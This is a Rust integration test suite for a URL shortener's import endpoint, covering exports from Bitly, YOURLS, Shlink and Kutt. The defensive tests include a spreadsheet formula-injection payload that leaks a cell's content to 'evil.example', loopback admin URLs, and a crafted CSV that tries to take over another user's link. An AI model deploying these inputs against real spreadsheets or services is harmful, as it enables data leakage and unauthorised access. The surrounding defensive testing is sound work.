//! `POST /urls/import`: the exports of Bitly, YOURLS, Shlink and Kutt (samples in
//! `api/tests/fixtures/`) and kurz's own become the caller's links, with their codes, titles,
//! tags, dates and click counts; all or nothing; never over an existing code.

use crate::helpers::{error_of, spawn_app, TestApp};
use serde_json::{json, Value};

const BITLY: &[u8] = include_bytes!("../fixtures/bitly.csv");
const YOURLS: &[u8] = include_bytes!("../fixtures/yourls.csv");
const SHLINK: &[u8] = include_bytes!("../fixtures/shlink.csv");
const KUTT: &[u8] = include_bytes!("../fixtures/kutt.json");

async fn import(app: &TestApp, format: &str, user: i64, bytes: &[u8]) -> reqwest::Response {
    app.upload(
        &format!("/urls/import?format={format}&user_id={user}"),
        bytes.to_vec(),
    )
    .await
}

/// The user's links by code.
async fn links_of(app: &TestApp, user: i64) -> std::collections::HashMap<String, Value> {
    let links: Vec<Value> = app
        .get(&format!("/urls?user_id={user}"))
        .await
        .json()
        .await
        .unwrap();
    links
        .into_iter()
        .map(|l| (l["short_code"].as_str().unwrap().to_owned(), l))
        .collect()
}

#[tokio::test]
async fn each_products_export_becomes_links_with_what_it_carries() {
    let app = spawn_app().await;
    let user = app.create_user("migrant").await;

    let res = import(&app, "bitly", user, BITLY).await;
    assert_eq!(res.status(), 201);
    let report: Value = res.json().await.unwrap();
    assert_eq!(report["format"], "bitly");
    assert_eq!(report["imported"], 3);
    assert_eq!(report["user_id"], user);
    assert_eq!(
        report["mapped"],
        json!(["clicks", "created_at", "short_code", "tags", "title"])
    );
    let links = links_of(&app, user).await;
    // The back-half the owner chose wins over the random bit.ly code.
    let spring = &links["spring"];
    assert_eq!(spring["title"], "Spring sale, \"50% off\" everything");
    assert_eq!(
        spring["original_url"],
        "https://shop.example.com/sale?utm_source=bitly&utm_medium=social"
    );
    assert_eq!(spring["tags"], json!(["promo", "spring-2024"]));
    assert_eq!(spring["created_at"], "2024-03-01T09:15:00");
    assert_eq!(spring["imported_clicks"], 1532);
    assert_eq!(spring["visits"], 0, "kurz's own clicks start at zero");
    assert_eq!(links["2KlmNoP"]["title"], Value::Null);
    assert!(links.contains_key("4xYzQ12"));

    let res = import(&app, "yourls", user, YOURLS).await;
    assert_eq!(res.status(), 201);
    let links = links_of(&app, user).await;
    assert_eq!(links["sale"]["title"], "Big sale, \"today only\"");
    assert_eq!(links["sale"]["imported_clicks"], 420);
    assert_eq!(links["ozh"]["created_at"], "2024-01-10T08:00:00");

    // Shlink's multi-segment slug is no kurz code: a new one is made, and the report says so.
    let res = import(&app, "shlink", user, SHLINK).await;
    assert_eq!(res.status(), 201);
    let report: Value = res.json().await.unwrap();
    let generated: Vec<&Value> = report["codes"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|c| c["generated"] == true)
        .collect();
    assert_eq!(generated.len(), 1);
    assert_eq!(generated[0]["source_code"], "docs/intro");
    let new_code = generated[0]["short_code"].as_str().unwrap();
    let links = links_of(&app, user).await;
    assert_eq!(
        links[new_code]["original_url"],
        "https://docs.example.com/intro"
    );
    assert_eq!(links["abc123"]["tags"], json!(["news", "release"]));
    assert_eq!(
        links["abc123"]["created_at"], "2024-04-02T08:11:12",
        "in UTC"
    );
    assert_eq!(links["Umlaut"]["title"], "Über uns – Grüße");

    let res = import(&app, "kutt", user, KUTT).await;
    assert_eq!(res.status(), 201);
    let report: Value = res.json().await.unwrap();
    // Kutt's `promo` is behind a password no export carries: it comes in switched off, and
    // keeps its expiry, rather than open to everyone.
    assert_eq!(report["needs_password"], json!(["promo"]));
    let links = links_of(&app, user).await;
    assert_eq!(links["promo"]["is_active"], false);
    assert_eq!(links["promo"]["expires_at"], "2025-06-10T07:05:00");
    assert_eq!(app.get("/promo").await.status(), 404);
    assert_eq!(links["x7Kp2"]["is_active"], true);
    assert_eq!(links["x7Kp2"]["expires_at"], Value::Null);
    assert_eq!(links["x7Kp2"]["title"], "Docs, \"quick start\"");
    assert_eq!(links["x7Kp2"]["imported_clicks"], 42);
    assert_eq!(links.len(), 3 + 3 + 3 + 3);
    // They redirect like any link, and their stats show the count they came with.
    assert_eq!(app.get("/x7Kp2").await.status(), 302);
    let id = links["x7Kp2"]["id"].as_i64().unwrap();
    let stats = app.stats(id).await;
    assert_eq!(stats["imported_clicks"], 42);
    // A count that carries no day is whole in any range.
    let ranged: Value = app
        .get(&format!("/urls/{id}/stats?from=2030-01-01&to=2030-01-31"))
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(
        (&ranged["clicks"], &ranged["imported_clicks"]),
        (&json!(0), &json!(42))
    );
}

/// A code generated for a record a link already holds is drawn again: before, the whole import
/// failed with a 409 naming a code the file never had. The draws are the test's own.
#[tokio::test]
async fn a_generated_code_a_link_already_holds_is_drawn_again() {
    use kurz_api::import::foreign::{Access, ForeignLink, Format};
    use kurz_common::shortcode::ShortCode;
    use std::sync::{Arc, Mutex};
    let app = spawn_app().await;
    let user = app.create_user("drawn").await;
    let res = app
        .post_json(
            "/urls",
            &json!({"user_id": user, "original_url": "https://example.com/first", "short_code": "taken01"}),
        )
        .await;
    assert_eq!(res.status(), 201);
    // One record without a code of its own: it gets a generated one.
    let record = |url: &str| {
        Arc::new(vec![ForeignLink {
            record: 1,
            short_code: None,
            original_url: url.into(),
            title: None,
            tags: vec![],
            created_at: None,
            clicks: None,
            access: Access::default(),
        }])
    };
    let links = record("https://example.com/second");
    // Taken first, then free.
    let draws = Arc::new(Mutex::new(vec!["fresh01", "taken01"]));
    let next = draws.clone();
    let draw = Arc::new(move || ShortCode::parse(next.lock().unwrap().pop().unwrap()).unwrap());
    let ((_, report), ()) = kurz_api::routes::bulk::with_free_codes(
        &app.state.db,
        Format::Shlink,
        links,
        user,
        draw,
        (),
    )
    .await
    .unwrap();
    assert_eq!(report["codes"][0]["short_code"], "fresh01");
    assert_eq!(report["codes"][0]["generated"], true);
    assert!(draws.lock().unwrap().is_empty());

    // Taken at every draw, the last included: a 503 to retry, never a taken code imported.
    let mut taken = Vec::new();
    for i in 2..=5 {
        let code = format!("taken0{i}");
        let body =
            json!({"user_id": user, "original_url": "https://example.com/t", "short_code": code});
        assert_eq!(app.post_json("/urls", &body).await.status(), 201);
        taken.push(code);
    }
    taken.push("taken01".into());
    taken.reverse();
    let next = Arc::new(Mutex::new(taken));
    let draw = Arc::new(move || ShortCode::parse(&next.lock().unwrap().pop().unwrap()).unwrap());
    let links = record("https://example.com/third");
    let refused = kurz_api::routes::bulk::with_free_codes(
        &app.state.db,
        Format::Shlink,
        links,
        user,
        draw,
        (),
    )
    .await;
    assert!(
        matches!(refused, Err(kurz_api::error::ApiError::Unavailable(_))),
        "{refused:?}"
    );

    // A draw that equals a code a later record keeps, or one generated before, is drawn again.
    let mut file = Vec::new();
    for (n, code) in [(1, None), (2, Some("kept001")), (3, None)] {
        let mut link = record("https://example.com/file")[0].clone();
        link.record = n;
        link.short_code = code.map(str::to_owned);
        file.push(link);
    }
    let draws = Arc::new(Mutex::new(vec!["gen0002", "gen0001", "gen0001", "kept001"]));
    let next = draws.clone();
    let draw = Arc::new(move || ShortCode::parse(next.lock().unwrap().pop().unwrap()).unwrap());
    let ((_, report), ()) = kurz_api::routes::bulk::with_free_codes(
        &app.state.db,
        Format::Shlink,
        Arc::new(file),
        user,
        draw,
        (),
    )
    .await
    .unwrap();
    let codes: Vec<&str> = report["codes"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["short_code"].as_str().unwrap())
        .collect();
    assert_eq!(codes, ["gen0001", "kept001", "gen0002"]);
    assert!(draws.lock().unwrap().is_empty());
}

/// A link Kutt's admin banned (a phishing target, say) comes in switched off; a flag that is
/// no boolean is named.
#[tokio::test]
async fn a_banned_kutt_link_comes_in_switched_off() {
    let app = spawn_app().await;
    let user = app.create_user("banned").await;
    let kutt =
        br#"[{"target":"https://a.example/","address":"banned1","banned":true,"password":false},
                   {"target":"https://b.example/","address":"fine1","banned":false}]"#;
    let res = import(&app, "kutt", user, kutt).await;
    assert_eq!(res.status(), 201);
    let report: Value = res.json().await.unwrap();
    assert_eq!(report["needs_password"], json!([]));
    let links = links_of(&app, user).await;
    assert_eq!(links["banned1"]["is_active"], false);
    assert_eq!(links["fine1"]["is_active"], true);
    let kutt = br#"[{"target":"https://a.example/","address":"odd1","password":"yes"}]"#;
    let body = error_of(import(&app, "kutt", user, kutt).await, 400).await;
    assert_eq!(body["details"]["column"], "password");
}

#[tokio::test]
async fn an_import_is_all_or_nothing_and_never_overwrites() {
    let app = spawn_app().await;
    let user = app.create_user("careful").await;
    // One bad record (no long URL) in the middle: nothing is imported, the record is named.
    let bad = "keyword,url,title,timestamp,ip,clicks\nok1,https://example.com/1,,,,\nok2,,,,,\n";
    let err = error_of(import(&app, "yourls", user, bad.as_bytes()).await, 400).await;
    assert_eq!(err["details"]["row"], 2);
    assert_eq!(err["details"]["column"], "url");
    // A target kurz refuses is named the same way, by the file's own column name.
    let bad = "keyword,url\nok1,https://example.com/1\nlocal,http://127.0.0.1/admin\n";
    let err = error_of(import(&app, "yourls", user, bad.as_bytes()).await, 400).await;
    assert_eq!(err["details"]["row"], 2);
    assert_eq!(err["details"]["column"], "url");
    assert_eq!(err["details"]["line"], 3);
    // As the file spells it: Bitly's export says `Destination URL`, its API `long_url`.
    for column in ["Destination URL", "long_url"] {
        let bad = format!("{column}\nhttp://127.0.0.1/admin\n");
        let err = error_of(import(&app, "bitly", user, bad.as_bytes()).await, 400).await;
        assert_eq!(
            (&err["details"]["row"], &err["details"]["column"]),
            (&json!(1), &json!(column))
        );
    }
    assert!(links_of(&app, user).await.is_empty());

    // A code already taken (by anyone): 409, and the rest of the file is not imported either.
    let other = app.create_user("first").await;
    let res = app
        .post_json(
            "/urls",
            &json!({"user_id": other, "original_url": "https://example.com/mine", "short_code": "sale"}),
        )
        .await;
    assert_eq!(res.status(), 201);
    error_of(import(&app, "yourls", user, YOURLS).await, 409).await;
    assert!(links_of(&app, user).await.is_empty());
    assert_eq!(
        app.get("/sale").await.headers()["location"],
        "https://example.com/mine",
        "the existing link is untouched"
    );

    error_of(import(&app, "delicious", user, YOURLS).await, 400).await;
    error_of(import(&app, "kutt", user, b"{not json").await, 400).await;
    error_of(import(&app, "yourls", 999_999, YOURLS).await, 404).await;
}

/// kurz's own export imports into another instance (or account) as new links of the caller.
#[tokio::test]
async fn kurz_csv_export_imports_as_the_callers_links() {
    let app = spawn_app().await;
    let user = app.create_user("exporter").await;
    let res = app
        .post_json(
            "/urls",
            &json!({"user_id": user, "original_url": "https://example.com/round", "short_code": "round1", "tags": ["t"], "max_visits": 9}),
        )
        .await;
    assert_eq!(res.status(), 201);
    let round_id = res.json::<Value>().await.unwrap()["id"].as_i64().unwrap();
    for _ in 0..2 {
        assert_eq!(app.get("/round1").await.status(), 302);
    }
    assert_eq!(app.clicks(round_id).await.len(), 2);
    let res = app
        .post_json(
            "/urls",
            &json!({"user_id": user, "original_url": "https://example.com/secret", "short_code": "locked1", "password": "open sesame"}),
        )
        .await;
    assert_eq!(res.status(), 201);
    let csv = app
        .get(&format!("/urls/export?user_id={user}"))
        .await
        .bytes()
        .await
        .unwrap();
    let text = String::from_utf8(csv.to_vec()).unwrap();
    assert!(
        text.lines()
            .next()
            .unwrap()
            .ends_with(",clicks,has_password"),
        "{text}"
    );
    let fresh = spawn_app().await;
    fresh.create_user("somebody").await;
    let owner = fresh.create_user("importer").await;
    let res = import(&fresh, "csv", owner, &csv).await;
    assert_eq!(res.status(), 201);
    // The password is not in the file: the protected link comes in switched off, named in the
    // answer, instead of sending anyone to its target.
    let report: Value = res.json().await.unwrap();
    assert_eq!(report["needs_password"], json!(["locked1"]), "{report}");
    let links = links_of(&fresh, owner).await;
    let round = &links["round1"];
    assert_eq!(round["user_id"], owner);
    assert_eq!(round["tags"], json!(["t"]));
    assert_eq!(round["max_visits"], 9);
    assert_eq!(round["is_active"], true);
    // The clicks recorded where the file came from move with the link, as imported clicks.
    assert_eq!(round["imported_clicks"], 2, "{round}");
    assert_eq!(round["visits"], 0);
    assert_eq!(links["locked1"]["is_active"], false);
    assert_eq!(links["locked1"]["has_password"], false);
    error_of(fresh.get("/locked1").await, 404).await;
}

/// The importer's own links, whatever the file says: an `id` or `user_id` column in any
/// spelling (`ID`, ` User_Id`, with a byte-order mark) neither updates an existing link nor
/// hands the new one to someone else, and a column named twice is refused.
#[tokio::test]
async fn a_csv_import_cannot_reach_another_users_link_by_its_id() {
    let app = spawn_app().await;
    let (victim, victim_link, victim_code) =
        app.create_link("victim", "https://example.com/mine").await;
    let importer = app.create_user("importer").await;

    let csv = format!(
        "\u{feff}ID,short_code,original_url, User_Id\n{victim_link},taken1,https://evil.example/,{victim}\n"
    );
    let res = import(&app, "csv", importer, csv.as_bytes()).await;
    assert_eq!(res.status(), 201, "{}", res.text().await.unwrap());

    let kept: Value = app
        .get(&format!("/urls/{victim_link}"))
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(kept["original_url"], "https://example.com/mine");
    assert_eq!(kept["short_code"], victim_code.as_str());
    assert_eq!(kept["user_id"], victim);
    let mine = links_of(&app, importer).await;
    assert_eq!(mine["taken1"]["original_url"], "https://evil.example/");
    assert_ne!(mine["taken1"]["id"], victim_link);
    assert_eq!(links_of(&app, victim).await.len(), 1);

    // Blank header cells (trailing commas) are no repeated column; a long title from an older
    // export is cut, not refused.
    let blank = format!(
        "short_code,original_url,title,,\nblank1,https://b.example/,{},,\n",
        "t".repeat(600)
    );
    let res = import(&app, "csv", importer, blank.as_bytes()).await;
    assert_eq!(res.status(), 201, "{}", res.text().await.unwrap());
    assert_eq!(
        links_of(&app, importer).await["blank1"]["title"],
        "t".repeat(512)
    );

    let twice = "short_code,original_url,SHORT_CODE\nabc1234,https://a.example/,zzz9999\n";
    let body = error_of(import(&app, "csv", importer, twice.as_bytes()).await, 400).await;
    assert!(
        body["message"].as_str().unwrap().contains("\"short_code\""),
        "{body}"
    );
}

/// An error names the line the record starts on in the file, past titles that span lines (an
/// export writes a title's line breaks inside its quotes).
#[tokio::test]
async fn an_own_csv_error_names_the_records_line_in_the_file() {
    let app = spawn_app().await;
    let importer = app.create_user("lines").await;
    let csv = "short_code,original_url,title,clicks\n\
               ml1,https://a.example/,\"two\nlines\",1\n\
               ml2,https://b.example/,t,-1\n";
    let err = error_of(import(&app, "csv", importer, csv.as_bytes()).await, 400).await;
    assert_eq!(err["details"]["row"], 2, "{err}");
    assert_eq!(err["details"]["line"], 4, "{err}");
    assert_eq!(err["details"]["column"], "clicks", "{err}");
    assert!(links_of(&app, importer).await.is_empty());
    // The record past the most an import takes is named where it starts.
    let max = kurz_api::import::foreign::MAX_LINKS;
    let mut many = String::from("short_code,original_url\n");
    for i in 0..=max {
        many.push_str(&format!("m{i},https://a.example/\n"));
    }
    let err = error_of(import(&app, "csv", importer, many.as_bytes()).await, 400).await;
    assert_eq!(err["details"]["row"], max + 1, "{err}");
    assert_eq!(err["details"]["line"], max + 2, "{err}");
    // The same when that record is malformed itself (a field too many).
    many.truncate(many.len() - 1);
    many.push_str(",extra\n");
    let err = error_of(import(&app, "csv", importer, many.as_bytes()).await, 400).await;
    assert_eq!(err["details"]["line"], max + 2, "{err}");
}

/// A date PostgreSQL cannot store is the record's error (400 naming it), not a 500.
#[tokio::test]
async fn a_date_out_of_range_is_the_records_error() {
    let app = spawn_app().await;
    let user = app.create_user("ancient").await;
    let kutt = br#"[{"target":"https://a.example/","address":"old1","created_at":"-5000-01-01"}]"#;
    let body = error_of(import(&app, "kutt", user, kutt).await, 400).await;
    assert!(
        body["message"].as_str().unwrap().contains("-5000-01-01"),
        "{body}"
    );
    assert!(links_of(&app, user).await.is_empty());
}

/// Another product's title longer than kurz keeps is cut to its first 512 characters, not a
/// refused import.
#[tokio::test]
async fn a_foreign_title_longer_than_ours_is_cut() {
    let app = spawn_app().await;
    let user = app.create_user("verbose").await;
    let title = "é".repeat(600);
    let kutt =
        format!(r#"[{{"target":"https://a.example/","address":"long1","description":"{title}"}}]"#);
    let res = import(&app, "kutt", user, kutt.as_bytes()).await;
    assert_eq!(res.status(), 201, "{}", res.text().await.unwrap());
    let links = links_of(&app, user).await;
    assert_eq!(links["long1"]["title"], "é".repeat(512));
}

/// Any user may import, and each record costs memory far beyond its bytes: an import takes at
/// most 100,000 links, in every format, and one more is refused at that record with nothing
/// imported.
#[tokio::test]
async fn an_import_of_more_links_than_the_ceiling_is_refused_whole() {
    let app = spawn_app().await;
    let user = app.create_user("huge").await;
    let mut own = "short_code,original_url\n".to_owned();
    own.push_str(&",https://a.example/\n".repeat(100_001));
    let mut bitly = "long_url\n".to_owned();
    bitly.push_str(&"x\n".repeat(100_001));
    let kutt = format!("[{}]", vec!["{}"; 100_001].join(","));
    for (format, file) in [("csv", own), ("bitly", bitly), ("kutt", kutt)] {
        let body = error_of(import(&app, format, user, file.as_bytes()).await, 400).await;
        assert_eq!(body["details"]["row"], 100_001, "{format}: {body}");
        assert!(
            body["message"]
                .as_str()
                .unwrap()
                .contains("at most 100000 links"),
            "{format}: {body}"
        );
    }
    assert!(links_of(&app, user).await.is_empty());
}

/// A spreadsheet opening an export must not run what a user wrote: a title, code or tag that
/// begins like a formula is written behind a `'` (text to a spreadsheet), and the file still
/// imports back to exactly the values that were exported.
#[tokio::test]
async fn an_export_runs_no_formula_in_a_spreadsheet_and_imports_back_unchanged() {
    let app = spawn_app().await;
    let user = app.create_user("formulas").await;
    let title = r#"=HYPERLINK("https://evil.example/?"&A2,"open")"#;
    for (code, title, tags) in [
        ("-1-1", title, json!(["-x", "y"])),
        ("plain1", "'=quoted already", json!([])),
        ("plain2", "'just a quote", json!(["-"])),
        ("spaced1", "  Q3 report  ", json!([])),
        ("spaced2", " '=x", json!([])),
    ] {
        let res = app
            .post_json(
                "/urls",
                &json!({"user_id": user, "original_url": "https://example.com/f", "short_code": code, "title": title, "tags": tags}),
            )
            .await;
        assert_eq!(res.status(), 201, "{}", res.text().await.unwrap());
    }
    let csv = app
        .get(&format!("/urls/export?user_id={user}"))
        .await
        .bytes()
        .await
        .unwrap();
    let mut reader = csv::Reader::from_reader(&csv[..]);
    let header = reader.headers().unwrap().clone();
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    let (code_at, title_at, tags_at) = (col("short_code"), col("title"), col("tags"));
    for row in reader.records() {
        let row = row.unwrap();
        for at in [code_at, title_at, tags_at] {
            let cell = &row[at];
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a spreadsheet would run {cell:?}"
            );
        }
    }
    let text = String::from_utf8(csv.to_vec()).unwrap();
    assert!(
        text.contains(r#""'=HYPERLINK(""https://evil.example/?""&A2,""open"")""#),
        "{text}"
    );

    let fresh = spawn_app().await;
    let owner = fresh.create_user("importer").await;
    assert_eq!(import(&fresh, "csv", owner, &csv).await.status(), 201);
    let links = links_of(&fresh, owner).await;
    assert_eq!(links["-1-1"]["title"], title);
    assert_eq!(links["-1-1"]["tags"], json!(["-x", "y"]));
    assert_eq!(links["plain1"]["title"], "'=quoted already");
    assert_eq!(links["plain2"]["title"], "'just a quote");
    assert_eq!(links["plain2"]["tags"], json!(["-"]));
    assert_eq!(links["spaced1"]["title"], "  Q3 report  ");
    assert_eq!(links["spaced2"]["title"], " '=x");
}

/// Shlink keeps a code per domain, so one export can hold `abc` twice: the first keeps the
/// code, the other gets a generated one (listed as such) instead of the whole file failing.
#[tokio::test]
async fn a_code_repeated_across_domains_keeps_it_once_and_generates_the_other() {
    let app = spawn_app().await;
    let user = app.create_user("domains").await;
    let file = "\"createdAt\",\"domain\",\"shortCode\",\"shortUrl\",\"longUrl\",\"title\",\"tags\",\"visits\"\n\
        \"2024-04-02T10:11:12+02:00\",\"d1.example\",\"abcd\",\"https://d1.example/abcd\",\"https://example.com/one\",\"\",\"\",3\n\
        \"2024-04-02T10:11:12+02:00\",\"d2.example\",\"abcd\",\"https://d2.example/abcd\",\"https://example.com/two\",\"\",\"\",4\n";
    let res = import(&app, "shlink", user, file.as_bytes()).await;
    assert_eq!(res.status(), 201, "{}", res.text().await.unwrap());
    let report: Value = res.json().await.unwrap();
    let codes = report["codes"].as_array().unwrap();
    assert_eq!(codes[0]["short_code"], "abcd");
    assert_eq!(codes[0]["generated"], false);
    assert_eq!(codes[1]["source_code"], "abcd");
    assert_eq!(codes[1]["generated"], true);
    let other = codes[1]["short_code"].as_str().unwrap();
    let links = links_of(&app, user).await;
    assert_eq!(links["abcd"]["original_url"], "https://example.com/one");
    assert_eq!(links[other]["original_url"], "https://example.com/two");
    assert_eq!(links[other]["imported_clicks"], 4);
}

/// More than 20 tags on one link are refused however the source spells them: a tag holding a
/// `;` counts as the tags it becomes.
#[tokio::test]
async fn a_foreign_link_with_more_tags_than_a_link_holds_is_refused() {
    let app = spawn_app().await;
    let user = app.create_user("tagged").await;
    let tags: Vec<String> = (0..25).map(|i| format!("t{i}")).collect();
    let file = format!(
        "long_url,tags\nhttps://a.example/,\";,{}\"\n",
        tags.join(",")
    );
    let body = error_of(import(&app, "bitly", user, file.as_bytes()).await, 400).await;
    assert_eq!(body["details"]["column"], "tags", "{body}");
    assert!(links_of(&app, user).await.is_empty());
}

/// Imports run a few at a time per API process: past that one waits for a turn, and is
/// refused with a 503 that says when to retry when none comes within the wait.
#[tokio::test]
async fn imports_past_the_servers_few_at_once_wait_then_get_503() {
    use kurz_api::routes::bulk::{
        IMPORT_TURN_WAIT, MAX_CONCURRENT_IMPORTS, MAX_CONCURRENT_UPLOADS,
    };
    let app = spawn_app().await;
    let user = app.create_user("queued").await;
    let hold = || {
        app.state
            .imports
            .clone()
            .acquire_many_owned(MAX_CONCURRENT_IMPORTS as u32)
    };
    let held = hold().await.unwrap();
    let started = std::time::Instant::now();
    let res = import(&app, "bitly", user, BITLY).await;
    assert!(
        started.elapsed() >= IMPORT_TURN_WAIT,
        "refused without waiting"
    );
    assert_eq!(res.headers()["retry-after"], "2");
    let body = error_of(res, 503).await;
    assert_eq!(body["error"], "service_unavailable", "{body}");
    assert!(
        body["message"].as_str().unwrap().contains("import"),
        "{body}"
    );
    assert!(links_of(&app, user).await.is_empty());

    // A turn that comes within the wait: the import goes through.
    let release = tokio::spawn(async move {
        tokio::time::sleep(std::time::Duration::from_millis(500)).await;
        drop(held);
    });
    let res = import(&app, "bitly", user, BITLY).await;
    assert_eq!(res.status(), 201, "{}", res.text().await.unwrap());
    assert!(!links_of(&app, user).await.is_empty());
    release.await.unwrap();
    // Every turn is back once the imports have answered.
    drop(hold().await.unwrap());

    // Uploads held in memory are bounded too, before their files are read.
    let uploads = app
        .state
        .uploads
        .clone()
        .acquire_many_owned(MAX_CONCURRENT_UPLOADS as u32)
        .await
        .unwrap();
    let body = error_of(import(&app, "bitly", user, BITLY).await, 503).await;
    assert!(
        body["message"].as_str().unwrap().contains("upload"),
        "{body}"
    );
    drop(uploads);

    // One upload at a time per client address: a second is refused at once.
    let me: std::net::IpAddr = [127, 0, 0, 1].into();
    assert!(app.state.uploading.lock().unwrap().insert(me));
    let res = import(&app, "bitly", user, BITLY).await;
    assert_eq!(res.headers()["retry-after"], "2");
    error_of(res, 429).await;
    app.state.uploading.lock().unwrap().remove(&me);
    let res = app
        .upload("/urls/bulk", b"user_id,short_code,original_url\n".to_vec())
        .await;
    assert_eq!(res.status(), 201, "{}", res.text().await.unwrap());
    assert!(
        app.state.uploading.lock().unwrap().is_empty(),
        "an upload kept its address"
    );
}

/// A file whose records are wider than any export, or whose bad cell is huge, costs what a
/// normal file does: refused before the parse that would hold gigabytes for it, and a cell an
/// error quotes back is quoted short.
#[tokio::test]
async fn a_file_too_wide_or_a_huge_bad_cell_is_refused_in_a_short_answer() {
    let app = spawn_app().await;
    let user = app.create_user("wide").await;
    let header = format!("Destination URL{}\n", ",".repeat(1_000));
    for format in ["bitly", "yourls", "shlink", "csv"] {
        let err = error_of(import(&app, format, user, header.as_bytes()).await, 400).await;
        assert!(
            err["message"].as_str().unwrap().contains("more than 1000"),
            "{format}: {err}"
        );
    }
    let row = format!(
        "Destination URL\nhttps://example.com/a\nhttps://example.com/b{}\n",
        ",".repeat(1_000)
    );
    let err = error_of(import(&app, "bitly", user, row.as_bytes()).await, 400).await;
    assert_eq!(err["details"]["row"], 2, "{err}");
    for kind in ["users", "urls", "events"] {
        let err = error_of(
            app.upload(&format!("/{kind}/bulk"), header.clone().into_bytes())
                .await,
            400,
        )
        .await;
        assert!(
            err["message"].as_str().unwrap().contains("more than 1000"),
            "{kind}: {err}"
        );
    }

    let huge = "\u{1}".repeat(100_000);
    let file = format!("Destination URL,Date created\nhttps://example.com/a,{huge}\n");
    let res = import(&app, "bitly", user, file.as_bytes()).await;
    let body = res.bytes().await.unwrap();
    assert!(body.len() < 2_000, "{} bytes", body.len());
    assert!(String::from_utf8_lossy(&body).contains("not a recognised timestamp"));
    let file = format!("id,username,email,{huge}\0\n");
    let body = app
        .upload("/users/bulk", file.into_bytes())
        .await
        .bytes()
        .await
        .unwrap();
    assert!(body.len() < 2_000, "{} bytes", body.len());
    assert!(String::from_utf8_lossy(&body).contains("NUL"));
}

/// Another product's tags that kurz does not take leave their links, listed in the report,
/// rather than refuse the whole file: the links and their other tags come in.
#[tokio::test]
async fn a_foreign_tag_kurz_does_not_take_is_left_out_and_listed() {
    let app = spawn_app().await;
    let user = app.create_user("tagger").await;
    let long = "x".repeat(33);
    // Repeated in the answer cut short, as the huge code of the third record.
    let huge = "y".repeat(100_000);
    let file = format!(
        "long_url,tags,link\nhttps://a.example/,\"c#, ok, r&d\",\nhttps://b.example/,\"{long}, fine\",\n\
         https://c.example/,{huge}#,https://bit.ly/{huge}\n"
    );
    let res = import(&app, "bitly", user, file.as_bytes()).await;
    assert_eq!(res.status(), 201);
    let report: Value = res.json().await.unwrap();
    let cut = format!("{}…", "y".repeat(64));
    assert_eq!(
        report["dropped_tags"],
        json!([{"record": 1, "tag": "c#"}, {"record": 1, "tag": "r&d"}, {"record": 2, "tag": long},
               {"record": 3, "tag": cut.clone()}])
    );
    assert_eq!(report["dropped_tag_count"], 4);
    assert_eq!(report["codes"][2]["source_code"], cut);
    assert_eq!(report["codes"][2]["generated"], true);
    let mut tags: Vec<Value> = links_of(&app, user)
        .await
        .into_values()
        .map(|l| l["tags"].clone())
        .collect();
    tags.sort_by_key(|t| t.to_string());
    assert_eq!(tags, vec![json!(["fine"]), json!(["ok"]), json!([])]);

    // A record past the tags a link holds was read only that far: refused whole, not cut.
    let many: Vec<String> = (0..25).map(|i| format!("t{i}")).collect();
    let file = format!(
        "long_url,tags\nhttps://d.example/,\"c#,{}\"\n",
        many.join(",")
    );
    let body = error_of(import(&app, "bitly", user, file.as_bytes()).await, 400).await;
    assert_eq!(body["details"]["column"], "tags", "{body}");
}
